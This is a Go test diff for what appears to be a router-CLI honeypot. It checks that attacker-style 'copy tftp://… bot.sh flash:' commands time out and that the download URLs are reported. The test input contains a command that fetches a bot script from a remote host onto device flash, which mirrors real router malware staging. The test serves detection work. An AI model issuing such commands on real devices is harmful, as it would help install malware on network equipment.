@@ -318,3 +318,21 @@ func TestHistoryRecall(t *testing.T) {
 		t.Errorf("recall echo %q", out)
 	}
 }
+
+func TestCopyFromNetworkIsReported(t *testing.T) {
+	var urls []string
+	cfg := Config{Enable: func([]byte) bool { return true }, OnDownload: func(u string) { urls = append(urls, u) }}
+	c, out := session(t, cfg, "en\rx\rcopy tftp://203.0.113.9/bot.sh flash:\r\rcopy tftp: flash:\r203.0.113.9\r/x/y.bin\r\rcopy nvram:foo flash:\r")
+	host := c.Hostname()
+	want := host + "#copy tftp://203.0.113.9/bot.sh flash:\r\nDestination filename [bot.sh]? \r\n" +
+		"Accessing tftp://203.0.113.9/bot.sh...\r\n%Error opening tftp://203.0.113.9/bot.sh (Timed out)\r\n" +
+		host + "#copy tftp: flash:\r\nAddress or name of remote host []? 203.0.113.9\r\nSource filename []? /x/y.bin\r\n" +
+		"Destination filename [y.bin]? \r\nAccessing tftp://203.0.113.9/x/y.bin...\r\n%Error opening tftp://203.0.113.9/x/y.bin (Timed out)\r\n" +
+		host + "#copy nvram:foo flash:\r\n%Error opening nvram:foo (No such file or directory)\r\n" + host + "#"
+	if got := out[strings.Index(out, host+"#copy"):]; got != want {
+		t.Errorf("transcript\n got %q\nwant %q", got, want)
+	}
+	if strings.Join(urls, " ") != "tftp://203.0.113.9/bot.sh tftp://203.0.113.9/x/y.bin" {
+		t.Errorf("reported %q", urls)
+	}
+}
